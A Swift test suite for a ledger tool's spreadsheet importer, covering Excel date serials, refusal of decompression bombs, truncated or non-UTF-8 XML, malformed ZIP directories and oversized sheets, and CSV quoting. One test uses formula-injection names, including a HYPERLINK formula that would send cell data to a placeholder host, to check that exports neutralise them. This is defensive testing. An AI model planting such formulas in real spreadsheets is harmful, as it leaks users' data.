import CareLedger
import Foundation
import LedgerJSON
import LedgerTestSupport
import ProjectionKit
@testable import SpreadsheetRows
import Testing

/// What a workbook's cells become beyond the two fixtures: the date systems and which number
/// formats show a date, and the sheet shown as CSV whose line N is its row N.
@Suite struct WorkbookTests {
    @Test func serialDaysAreTheWorkbooksDates() {
        let days1900 = ExcelDates(date1904: false), days1904 = ExcelDates(date1904: true)
        #expect(days1900.day(1)?.description == "1900-01-01")
        #expect(days1900.day(59)?.description == "1900-02-28")
        #expect(days1900.day(61)?.description == "1900-03-01", "past the 29 February 1900 the 1900 system counts")
        #expect(days1900.day(45474.75)?.description == "2024-07-01", "a time of day is dropped")
        #expect(days1904.day(0)?.description == "1904-01-01" && days1904.day(44012)?.description == "2024-07-01")
        #expect(days1900.day(-1) == nil && days1900.day(.nan) == nil)
    }

    @Test func aDateFormatIsKnownByItsYearOrDay() {
        #expect(ExcelDates.isDateFormat(id: 14, code: nil) && ExcelDates.isDateFormat(id: 22, code: nil))
        #expect(ExcelDates.isDateFormat(id: 164, code: "dd/mm/yyyy") && ExcelDates.isDateFormat(id: 165, code: "[$-809]d mmmm yyyy"))
        #expect(!ExcelDates.isDateFormat(id: 0, code: nil) && !ExcelDates.isDateFormat(id: 2, code: nil))
        #expect(!ExcelDates.isDateFormat(id: 166, code: #"0 "days""#), "a quoted d is text")
        #expect(!ExcelDates.isDateFormat(id: 167, code: "[Red]0.00") && !ExcelDates.isDateFormat(id: 168, code: #"0\d"#))
    }

    /// A part that unpacks past the limit is refused before it is unpacked: a few megabytes of
    /// ZIP may hold gigabytes.
    @Test func aPartLargerThanTheLimitIsRefused() throws {
        let bytes = Array(try Data(contentsOf: URL(fileURLWithPath: RecordCommandTests.workbooks[0])))
        #expect(try Workbook.sheet(of: bytes, source: "return.xlsx", partLimit: 1 << 20).rows.rows.count == 4)
        #expect {
            try Workbook.sheet(of: bytes, source: "return.xlsx", partLimit: 1_000)
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("return.xlsx's part xl/worksheets/sheet1.xml unpacks to over") == true
        }
    }

    /// A sheet whose XML breaks off part-way (a writer's fault, or a file cut short inside its
    /// ZIP) is refused, not read up to the break as if it were the whole return.
    @Test func aSheetThatBreaksOffIsRefused() throws {
        let folder = TemporaryFolder("broken")
        let rows = #"<row r="1"><c r="A1" t="inlineStr"><is><t>occurredOn</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>2024-06-30</t></is></c></row>"#
        func workbook(_ sheet: String) throws -> [UInt8] {
            try workbookBytes(sheetXML: sheet, at: folder.file("return-\(sheet.count).xlsx"))
        }
        #expect(try Workbook.rows(of: workbook("<worksheet><sheetData>\(rows)</sheetData></worksheet>"), source: "return.xlsx").rows.count == 1)
        // A sheet of over 10 MB is whole: given its XML whole, the parser on Linux reported a
        // fault at its end (libxml2's limit on its input buffer), and a large return was refused.
        let many = (2...100_001).map { #"<row r="\#($0)"><c r="A\#($0)" t="inlineStr"><is><t>2024-06-30</t></is></c><c r="B\#($0)"><v>\#($0)</v></c></row>"# }.joined()
        let large = "<worksheet><sheetData>" + #"<row r="1"><c r="A1" t="inlineStr"><is><t>occurredOn</t></is></c><c r="B1" t="inlineStr"><is><t>n</t></is></c></row>"# + many + "</sheetData></worksheet>"
        #expect(large.utf8.count > 10_500_000)
        #expect(try Workbook.rows(of: workbook(large), source: "return.xlsx").rows.count == 100_000)
        #expect {
            try Workbook.rows(of: workbook("<worksheet><sheetData>\(rows)<row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>2024-07"), source: "return.xlsx")
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("return.xlsx is damaged: its part xl/worksheets/sheet1.xml is not well-formed XML (its first fault is at line 1, column") == true
        }
    }

    /// An element or attribute name whose bytes are not UTF-8 stopped the process inside
    /// Foundation's XML parser (the server's with it, from one file chosen on `/record`). Each
    /// workbook form refuses it as XML that is not well-formed, naming where; a document that
    /// declares an encoding of a byte to a character is decoded as it says, and read.
    @Test func namesThatAreNotUTF8AreRefusedNotACrash() throws {
        let folder = TemporaryFolder("utf8")
        let broken: [UInt8] = Array("<worksheet><sheetData><row r=\"1\"><c r=\"A1\" x".utf8) + [0xE2] + Array("y=\"1\" t=\"inlineStr\"><is><t>occurredOn</t></is></c></row></sheetData></worksheet>".utf8)
        let path = folder.file("return.xlsx")
        try zip(bytes: [("xl/workbook.xml", Data(#"<workbook xmlns:r="r"><sheets><sheet name="Return" sheetId="1" r:id="rId1"/></sheets></workbook>"#.utf8)),
                        ("xl/_rels/workbook.xml.rels", Data(#"<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>"#.utf8)),
                        ("xl/worksheets/sheet1.xml", Data(broken))], to: path)
        #expect {
            try Workbook.rows(of: Array(try Data(contentsOf: URL(fileURLWithPath: path))), source: "return.xlsx")
        } throws: { error in
            (error as? LedgerError)?.rule == "return.xlsx is damaged: its part xl/worksheets/sheet1.xml is not well-formed XML (its first fault is at line 1, column 45, where its bytes are not UTF-8), so none of it is read"
        }
        let spreadsheet = Array("<?xml version=\"1.0\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">\n<Worksheet ss:Name=\"R\"><Table><R".utf8) + [0xC3, 0x28] + Array("w/></Table></Worksheet></Workbook>".utf8)
        #expect {
            try Workbook.rows(of: spreadsheet, source: "return.xml")
        } throws: { error in
            (error as? LedgerError)?.rule == "return.xml is damaged: it is not well-formed XML (its first fault is at line 3, column 33, where its bytes are not UTF-8), so none of it is read"
        }
        // Behind a declaration libxml2 cannot act on (damaged, unknown, or UTF-16 in a document
        // written a byte to a character) it handed the bytes on as they are: a processing
        // instruction's target that is not UTF-8 stopped the process there (found by fuzzing).
        let refusals: [([UInt8], String)] = [
            (Array("U".utf8) + [0xA7] + Array("TF-8".utf8), "which careledger does not read: save it again as UTF-8"),
            (Array("FOO".utf8), "it declares its text in FOO, which careledger does not read"),
            (Array("UTF-16".utf8), "its first fault is at line 2, column 44, where its bytes are not UTF-8"),
        ]
        for (declared, words) in refusals {
            let damaged = Array("<?xml version=\"1.0\" encoding=\"".utf8) + declared + Array("\"?>\n<?mso-application progid=\"Excel.Sheet\"?><?a".utf8) + [0xFA]
                + Array(" b?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>".utf8)
            #expect {
                try Workbook.rows(of: damaged, source: "return.xml")
            } throws: { error in
                (error as? LedgerError)?.rule.contains(words) == true
            }
        }
        // A declaration libxml2 could not parse (`verhsion`) left it reading Latin-1 bytes as they
        // are; they are decoded here, as the declaration says, and the sheet read.
        let misspelt = Array("<?xml verhsion=\"1.0\" encoding=\"ISO-8859-1\"?>\n<?mso-application progid=\"Excel.Sheet\"?><?a".utf8) + [0xFA]
            + Array(" b?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"Return\"><Table><Row><Cell><Data ss:Type=\"String\">occurredOn</Data></Cell><Cell><Data ss:Type=\"String\">title</Data></Cell></Row><Row><Cell><Data ss:Type=\"String\">2024-06-30</Data></Cell><Cell><Data ss:Type=\"String\">Zo".utf8)
            + [0xEB] + Array("</Data></Cell></Row></Table></Worksheet></Workbook>".utf8)
        #expect(try Workbook.rows(of: misspelt, source: "return.xml").rows.first?.fields == ["2024-06-30", "Zo\u{EB}"])
        // A processing instruction with no data (`<?ab?>`) stopped the process inside Foundation's
        // parser (a null pointer it reads as a string); a `<?` in a CDATA section is text.
        let instructions = Array(("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?><?ab?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><?cd?>"
            + "<Worksheet ss:Name=\"Return\"><Table><Row><Cell><Data ss:Type=\"String\">occurredOn</Data></Cell><Cell><Data ss:Type=\"String\">title</Data></Cell></Row>"
            + "<Row><Cell><Data ss:Type=\"String\">2024-06-30</Data></Cell><Cell><Data ss:Type=\"String\"><![CDATA[<?ef?> & more]]></Data></Cell></Row></Table></Worksheet></Workbook>").utf8)
        #expect(try Workbook.rows(of: instructions, source: "return.xml").rows.first?.fields == ["2024-06-30", "<?ef?> & more"])
        let latin1 = Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Not".utf8) + [0xE9] + Array("/><Worksheet ss:Name=\"Return\"><Table><Row><Cell><Data ss:Type=\"String\">occurredOn</Data></Cell></Row><Row><Cell><Data ss:Type=\"String\">2024-06-30</Data></Cell></Row></Table></Worksheet></Workbook>".utf8)
        #expect(try Workbook.rows(of: latin1, source: "return.xml").rows.count == 1, "a declared encoding is the parser's to read")
    }

    /// The damaged declaration's workbook, posted as events: the server refuses it and serves on,
    /// where its process stopped (any writer could stop it, the body being sniffed).
    @Test func theServerRefusesADamagedDeclarationAndServesOn() async throws {
        let cli = try CLIWorkspace().initialised()
        let head = try cli.digest()
        let server = try RunningServer(data: cli.data)
        defer { server.stop() }
        let body = Array("<?xml version=\"1.0\" encoding=\"U".utf8) + [0xA7] + Array("TF-8\"?>\n<?mso-application progid=\"Excel.Sheet\"?><?a".utf8) + [0xFA]
            + Array(" b?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>".utf8)
        let refused = try await server.request("/v1/events?type=WorkerArrived", bytes: body, headers: ["Content-Type": "application/xml"])
        #expect(refused.status == 400 && refused.body.contains("which careledger does not read"), "\(refused.status) \(refused.body)")
        #expect(try await server.request("/healthz").status == 200)
        #expect(try cli.digest() == head)
    }

    /// A ZIP archive whose directory points past its end stopped the process inside
    /// ZIPFoundation (reading from memory, it made a range that ends before it starts): a part's
    /// header, the directory itself, or a stored part larger than the file. Each is refused as
    /// damaged, naming what is wrong; every workbook a spreadsheet program wrote reads as before.
    @Test func anArchivePointingPastItsEndIsRefusedNotACrash() throws {
        for path in RecordCommandTests.workbooks where !path.hasSuffix("fods") {
            #expect(ZIPBounds.problem(in: Array(try Data(contentsOf: URL(fileURLWithPath: path)))) == nil, "\(path)")
        }
        let original = Array(try Data(contentsOf: URL(fileURLWithPath: RecordCommandTests.workbooks[0])))
        func little(_ offset: Int, _ width: Int) -> Int { (0..<width).reduce(0) { $0 | Int(original[offset + $1]) << ($1 * 8) } }
        func patched(_ offset: Int, _ value: UInt32) -> [UInt8] {
            var bytes = original
            for byte in 0..<4 { bytes[offset + byte] = UInt8(truncatingIfNeeded: value >> (byte * 8)) }
            return bytes
        }
        let end = (0...(original.count - 22)).last { little($0, 4) == 0x06054B50 }!
        let directory = little(end + 16, 4)
        let second = directory + 46 + little(directory + 28, 2) + little(directory + 30, 2) + little(directory + 32, 2)
        for (bytes, problem) in [(patched(end + 16, UInt32(original.count + 1)), "its central directory begins past the end of the file"),
                                 (patched(second + 42, UInt32(original.count + 100)), "its part 2 begins past the end of the file"),
                                 (patched(second + 42, .max), "its part 2 begins past the end of the file"),
                                 (patched(second + 20, UInt32(original.count)), "its part 2 is larger than the file that holds it")] {
            #expect(ZIPBounds.problem(in: bytes) == problem)
            #expect {
                try Workbook.rows(of: bytes, source: "return.xlsx")
            } throws: { error in
                (error as? LedgerError)?.rule == "return.xlsx is damaged: \(problem), so none of it is read"
            }
        }
    }

    /// A cell or a row past the largest sheet is refused, not read: a column of fourteen letters
    /// overflowed the column's number and a row numbered 2^63 - 1 the next row's, each crashing
    /// the process (the server's too), and a column of seven letters asked for eight billion cells.
    @Test func aSheetPastTheLargestIsRefusedNotACrash() throws {
        let folder = TemporaryFolder("past")
        let header = #"<row r="1"><c r="A1" t="inlineStr"><is><t>occurredOn</t></is></c></row>"#
        for (name, row) in [("wide", #"<row r="2"><c r="AAAAAAAAAAAAAA2" t="inlineStr"><is><t>x</t></is></c></row>"#),
                            ("seven", #"<row r="2"><c r="ZZZZZZZ2" t="inlineStr"><is><t>x</t></is></c></row>"#),
                            ("deep", #"<row r="9223372036854775807"><c t="inlineStr"><is><t>x</t></is></c></row><row><c t="inlineStr"><is><t>y</t></is></c></row>"#)] {
            let bytes = try workbookBytes(sheetXML: "<worksheet><sheetData>\(header)\(row)</sheetData></worksheet>", at: folder.file("\(name).xlsx"))
            #expect {
                try Workbook.rows(of: bytes, source: "\(name).xlsx")
            } throws: { error in
                (error as? LedgerError)?.rule.hasPrefix("\(name).xlsx's sheet Return is larger than the largest sheet read") == true
            }
        }
        // One long shared text that thousands of cells name: 9,000 times 32,000 characters is
        // past the text one sheet may hold, though the sheet's XML is small.
        let references = (2...9_001).map { #"<row r="\#($0)"><c r="A\#($0)" t="s"><v>0</v></c></row>"# }.joined()
        let shared = try workbookBytes(sheetXML: "<worksheet><sheetData>\(header)\(references)</sheetData></worksheet>",
                                       sharedStrings: "<sst><si><t>\(String(repeating: "x", count: 32_000))</t></si></sst>", at: folder.file("shared.xlsx"))
        #expect {
            try Workbook.rows(of: shared, source: "shared.xlsx")
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("shared.xlsx's sheet Return is larger than the largest sheet read") == true
        }
        // The last column there is, XFD, is read; a blank cell far out takes no room.
        let last = try workbookBytes(sheetXML: #"<worksheet><sheetData>\#(header)<row r="2"><c r="A2" t="inlineStr"><is><t>2024-06-30</t></is></c><c r="XFD2" s="1"/></row></sheetData></worksheet>"#,
                                     at: folder.file("last.xlsx"))
        #expect(try Workbook.rows(of: last, source: "last.xlsx").rows == [.init(line: 2, fields: ["2024-06-30"])])
    }

    /// Rows that each fill one cell at the far right are held as wide as that cell: 1.2 MB of
    /// such SpreadsheetML took 2.5 GB, and 16 MB, which the server takes, would have taken the
    /// machine's whole memory. Each format is refused past twenty million cells held, as a
    /// refusal of its size; a sheet as wide and a few rows deep is read.
    @Test func rowsFilledAtTheFarRightAreRefusedByTheRoomTheyTake() throws {
        let folder = TemporaryFolder("far-right")
        let rows = 1_300  // of 16,000 cells each: 20.8 million
        func refused(_ bytes: [UInt8], _ name: String) {
            #expect {
                try Workbook.rows(of: bytes, source: name)
            } throws: { error in
                (error as? LedgerError)?.rule.contains("is larger than the largest sheet read") == true
                    && (error as? LedgerError)?.rule.contains("20000000 cells in its rows up to each row's last filled one") == true
            }
        }
        func xlsx(_ count: Int) throws -> [UInt8] {
            let far = (2...count + 1).map { #"<row r="\#($0)"><c r="A\#($0)" t="inlineStr"><is><t>2024-06-30</t></is></c><c r="WQJ\#($0)" t="inlineStr"><is><t>x</t></is></c></row>"# }
            return try workbookBytes(sheetXML: #"<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>occurredOn</t></is></c><c r="WQJ1" t="inlineStr"><is><t>note</t></is></c></row>\#(far.joined())</sheetData></worksheet>"#,
                                     at: folder.file("far-\(count).xlsx"))
        }
        refused(try xlsx(rows), "far.xlsx")
        #expect(try Workbook.rows(of: try xlsx(3), source: "far.xlsx").rows.map(\.fields.count) == [16_000, 16_000, 16_000])
        let spreadsheetML = #"<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table>"#
            + String(repeating: #"<Row><Cell><Data ss:Type="String">2024-06-30</Data></Cell><Cell ss:Index="16000"><Data ss:Type="String">x</Data></Cell></Row>"#, count: rows)
            + "</Table></Worksheet></Workbook>"
        refused(Array(spreadsheetML.utf8), "far.xml")
        refused(try OpenDocumentSheetTests.workbook("""
            <table:table-row table:number-rows-repeated="\(rows)"><table:table-cell table:number-columns-repeated="15999"/>\
            <table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>
            """, in: folder), "far.ods")
        refused(Array(("<table>" + String(repeating: "<tr><td>2024-06-30<td colspan=1000>" + String(repeating: "<td colspan=1000>", count: 14) + "<td colspan=998><td>x", count: rows)).utf8), "far.html")
    }

    /// A shared-strings table longer than a sheet read may fill is refused as it is read: a
    /// 146 KB workbook held twenty million empty strings, 760 MB and 25 s to read in full.
    @Test func sharedStringsPastTheMostASheetFillsAreRefused() throws {
        let table = Array(("<sst>" + String(repeating: "<si><t>x</t></si>", count: 4) + "</sst>").utf8)
        let fits = SharedStringsPart(most: 4), past = SharedStringsPart(most: 3)
        try fits.readDocument(table, source: "return.xlsx", partLimit: 1 << 20)
        try past.readDocument(table, source: "return.xlsx", partLimit: 1 << 20)
        #expect(fits.strings == ["x", "x", "x", "x"] && !fits.tooLarge)
        #expect(past.tooLarge && past.strings.count == 3)
    }

    /// A hidden sheet before the one people see (lookups, say) is not read for the first sheet,
    /// in either format; named, it is.
    @Test func aHiddenSheetIsPassedOver() throws {
        let folder = TemporaryFolder("hidden")
        let path = folder.file("return.xlsx")
        try writeWorkbook([("Lookups", [["kind"], ["english"]], true), ("Return", [["occurredOn", "workerRef"], ["2024-06-30", "W-1"]], false)], to: path)
        let bytes = Array(try Data(contentsOf: URL(fileURLWithPath: path)))
        let read = try Workbook.sheet(of: bytes, source: "return.xlsx")
        #expect(read.name == "Return" && read.rows.header.fields == ["occurredOn", "workerRef"] && read.names == ["Lookups", "Return"])
        #expect(try Workbook.sheet(of: bytes, source: "return.xlsx", named: "Lookups").rows.header.fields == ["kind"])

        let ods = try OpenDocumentSheetTests.workbook("""
            <table:table-row><table:table-cell office:value-type="string"><text:p>kind</text:p></table:table-cell></table:table-row>
            """, hidden: true, in: folder)
        let visible = try Workbook.sheet(of: ods, source: "return.ods")
        #expect(visible.name == "Notes" && visible.rows.header.fields == ["type"], "\(visible.rows)")
        #expect(try Workbook.sheet(of: ods, source: "return.ods", named: "Return").rows.header.fields == ["kind"])
    }

    @Test func aSheetShownAsCSVKeepsItsRowNumbersAsLines() throws {
        let rows = CSVRows(header: .init(line: 1, fields: ["occurredOn", "title"]),
                           rows: [.init(line: 3, fields: ["2024-07-01", "ESOL, \"Entry 3\""]), .init(line: 4, fields: ["2024-07-02", "two\nlines"]),
                                  .init(line: 6, fields: ["2024-07-03", "after"]), .init(line: 7, fields: ["2024-07-04", "windows\r\nbreak"]),
                                  .init(line: 9, fields: ["2024-07-05", "last"])])
        let text = Workbook.csvText(of: rows)
        #expect(text == "occurredOn,title\n\n2024-07-01,\"ESOL, \"\"Entry 3\"\"\"\n2024-07-02,\"two\nlines\"\n2024-07-03,after\n2024-07-04,\"windows\r\nbreak\"\n2024-07-05,last\n",
                "\(text)")
        #expect(try CSVRows(Array(text.utf8)).rows.map(\.line) == [3, 4, 6, 7, 9])
    }

    /// A cell holding a Windows line break is quoted in every CSV the ledger writes (a read
    /// model's table, a sheet shown in a box): `"\r\n"` is one Character, and a check by
    /// Characters let it through unquoted, splitting its row in two.
    @Test func aCellWithAWindowsLineBreakIsQuoted() throws {
        #expect(CSVRows.quoted("a\r\nb") == "\"a\r\nb\"" && CSVRows.quoted("plain") == "plain")
        let table = ReportTable(title: "", columns: ["partnerId", "name"], rows: [["PT-1", "Line one\r\nline two"]])
        #expect(table.csv == "partnerId,name\r\nPT-1,\"Line one\r\nline two\"\r\n", "\(table.csv)")
        #expect(try CSVRows(Array(table.csv.utf8)).rows.map(\.fields) == [["PT-1", "Line one\r\nline two"]])
    }

    /// A download opened in a spreadsheet program runs no formula someone recorded: a partner's
    /// name (or any text) beginning as a formula does is begun with an apostrophe in every CSV a
    /// read model gives, and a negative number is still a number. The JSON keeps the name as sent.
    @Test func aDownloadRunsNoFormulaSomeoneRecorded() throws {
        let cli = try CLIWorkspace().initialised()
        let names = [#"=HYPERLINK("http://example.invalid/?"&A1,"Open")"#, "+44 line", "-Hub-", "@SUM(A1:A9)", "\tTabbed"]
        for (i, name) in names.enumerated() {
            try cli.expect(0, ["record", "PartnerRegistered", "--on", "2024-01-0\(i + 1)", "partnerId=PT-F\(i)", "name=\(name)", "kind=hub"])
        }
        let csv = try cli.expect(0, ["query", "partners", "--period", "2024-Q1", "--csv"]).standardOutput
        #expect(csv.contains(#"PT-F0,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",hub,"#), "\(csv)")
        #expect(csv.contains("PT-F1,'+44 line,hub,") && csv.contains("PT-F2,'-Hub-,hub,") && csv.contains("PT-F3,'@SUM(A1:A9),hub,")
                && csv.contains("PT-F4,'\tTabbed,hub,"), "\(csv)")
        let json = try JSONValue(parsing: try cli.expect(0, ["query", "partners", "--period", "2024-Q1", "--json"]).standardOutput)
        #expect(json["partners"]?.arrayValue?.first { $0["partnerId"] == "PT-F0" }?["name"]?.stringValue == names[0])
        let numbers = ReportTable(title: "", columns: ["daysLeft", "rate", "note"], rows: [["-11", "-0.5", "-"], ["+3", "1e3", "=1"]]).csv
        #expect(numbers == "daysLeft,rate,note\r\n-11,-0.5,'-\r\n+3,1e3,'=1\r\n", "\(numbers)")
    }
}

/// What an OpenDocument sheet's XML holds beyond the two LibreOffice fixtures: paragraphs and
/// the white space OpenDocument collapses, a comment, rows and cells written once for several,
/// a column formatted as booleans, the blank million rows after the last, a second sheet.
@Suite struct OpenDocumentSheetTests {
    static let namespaces = """
        xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" \
        xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" \
        xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0"
        """

    /// An `.ods` file whose first table's rows are `rows` (its XML), a second table after it.
    static func workbook(_ rows: String, hidden: Bool = false, in folder: TemporaryFolder) throws -> [UInt8] {
        let styles = """
            <office:document-styles \(namespaces)><office:styles><number:boolean-style style:name="B"><number:boolean/></number:boolean-style>\
            <style:style style:name="yes" style:family="table-cell" style:data-style-name="B"/></office:styles></office:document-styles>
            """
        let content = """
            <?xml version="1.0" encoding="UTF-8"?>
            <office:document-content \(namespaces)><office:automatic-styles><style:style style:name="ta2" style:family="table">\
            <style:table-properties table:display="false"/></style:style></office:automatic-styles><office:body><office:spreadsheet>
              <table:table table:name="Return"\(hidden ? #" table:style-name="ta2""# : "")>
                <table:table-column table:number-columns-repeated="2"/><table:table-column table:default-cell-style-name="yes"/>
                \(rows)
              </table:table>
              <table:table table:name="Notes"><table:table-row><table:table-cell office:value-type="string"><text:p>type</text:p></table:table-cell></table:table-row></table:table>
            </office:spreadsheet></office:body></office:document-content>
            """
        let path = folder.file("return.ods")
        try zip(["mimetype": OpenDocumentSheet.mediaType, "styles.xml": styles, "content.xml": content], to: path)
        return Array(try Data(contentsOf: URL(fileURLWithPath: path)))
    }

    @Test func cellsAreTheirParagraphsAndValues() throws {
        let bytes = try Self.workbook("""
            <table:table-row>
              <table:table-cell office:value-type="string"><text:p>title</text:p></table:table-cell>
              <table:table-cell office:value-type="string"><text:p>note</text:p></table:table-cell>
              <table:table-cell office:value-type="string"><text:p>viaReplacement</text:p></table:table-cell>
            </table:table-row>
            <table:table-row table:number-rows-repeated="2">
              <table:table-cell office:value-type="string">
                <text:p>  ESOL,
                  <text:span>Entry</text:span><text:s text:c="2"/>3  </text:p>
                <text:p>second<text:tab/>line<text:line-break/>third</text:p>
              </table:table-cell>
              <table:table-cell office:value-type="string"><office:annotation><text:p>a comment</text:p></office:annotation><text:p>kept</text:p></table:table-cell>
              <table:table-cell office:value-type="float" office:value="1"><text:p>TRUE</text:p></table:table-cell>
              <table:table-cell table:number-columns-repeated="16381"/>
            </table:table-row>
            <table:table-row><table:covered-table-cell/><table:table-cell office:value-type="percentage" office:value="0.25"><text:p>25%</text:p></table:table-cell></table:table-row>
            <table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>
            """, in: TemporaryFolder("ods"))
        let rows = try Workbook.rows(of: bytes, source: "return.ods")
        let cell = "ESOL, Entry  3\nsecond\tline\nthird"
        #expect(rows.header == .init(line: 1, fields: ["title", "note", "viaReplacement"]))
        #expect(rows.rows == [.init(line: 2, fields: [cell, "kept", "true"]), .init(line: 3, fields: [cell, "kept", "true"]),
                              .init(line: 4, fields: ["", "0.25"])], "\(rows.rows)")
    }

    /// A title above the header is not read: the header is the first row naming occurredOn,
    /// and a cell past its columns is refused by naming that row.
    @Test func aTitleAboveTheHeaderIsNotRead() throws {
        func cells(_ texts: String...) -> String {
            "<table:table-row>" + texts.map { "<table:table-cell office:value-type=\"string\"><text:p>\($0)</text:p></table:table-cell>" }.joined() + "</table:table-row>"
        }
        let titled = try Self.workbook(cells("Provider return, Q2 2025", "", "prepared by P-1") + "<table:table-row><table:table-cell/></table:table-row>"
                                       + cells("occurredOn", "workerRef") + cells("2024-06-30", "W-1"), in: TemporaryFolder("ods"))
        let rows = try Workbook.rows(of: titled, source: "return.ods")
        #expect(rows.header == .init(line: 3, fields: ["occurredOn", "workerRef"]) && rows.rows == [.init(line: 4, fields: ["2024-06-30", "W-1"])])
        let wide = try Self.workbook(cells("occurredOn", "workerRef") + cells("2024-06-30", "W-1", "stray"), in: TemporaryFolder("ods"))
        #expect {
            try Workbook.rows(of: wide, source: "return.ods")
        } throws: { error in
            (error as? LedgerError)?.rule == "this row has cells beyond the 2 columns that row 1 names" && (error as? LedgerError)?.location == .line(2)
        }
    }

    @Test func aTableThatBreaksOffIsRefused() throws {
        let bytes = try Self.workbook("""
            <table:table-row><table:table-cell office:value-type="string"><text:p>occurredOn</text:p></table:table-cell></table:table-row>
            <table:table-row><table:table-cell office:value-type="string"><text:p>2024-06-30</text:p></table:table-cell></table:table-row>
            <table:table-row><table:table-cell office:value-type="str
            """, in: TemporaryFolder("ods"))
        #expect {
            try Workbook.rows(of: bytes, source: "return.ods")
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("return.ods is damaged: its part content.xml is not well-formed XML (its first fault is at line") == true
        }
    }

    /// A sheet past the largest a spreadsheet program makes is refused rather than read in part.
    @Test func aSheetPastTheLargestIsRefused() throws {
        let bytes = try Self.workbook("""
            <table:table-row><table:table-cell office:value-type="string"><text:p>workerRef</text:p></table:table-cell></table:table-row>
            <table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string"><text:p>W-1</text:p></table:table-cell></table:table-row>
            """, in: TemporaryFolder("ods"))
        #expect {
            try Workbook.rows(of: bytes, source: "return.ods")
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("return.ods's sheet Return is larger than the largest sheet read (1048576 rows, 16384 columns") == true
        }
        // A row of twenty cells written once for 600,000 rows: a small file standing for twelve
        // million cells, past the most read from one sheet.
        let repeated = try Self.workbook("""
            <table:table-row><table:table-cell table:number-columns-repeated="20" office:value-type="string"><text:p>occurredOn</text:p></table:table-cell></table:table-row>
            <table:table-row table:number-rows-repeated="600000"><table:table-cell table:number-columns-repeated="20" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>
            """, in: TemporaryFolder("ods"))
        #expect(repeated.count < 5_000)
        // A run of spaces written once for more than a cell holds.
        let spaces = try Self.workbook("""
            <table:table-row><table:table-cell office:value-type="string"><text:p>occurredOn</text:p></table:table-cell></table:table-row>
            <table:table-row><table:table-cell office:value-type="string"><text:p>a<text:s text:c="30000"/>b<text:s text:c="30000"/>c</text:p></table:table-cell></table:table-row>
            """, in: TemporaryFolder("ods"))
        #expect(throws: LedgerError.self) { try Workbook.rows(of: spaces, source: "return.ods") }
        #expect {
            try Workbook.rows(of: repeated, source: "return.ods")
        } throws: { error in
            (error as? LedgerError)?.rule.hasPrefix("return.ods's sheet Return is larger than the largest sheet read") == true
        }
    }
}
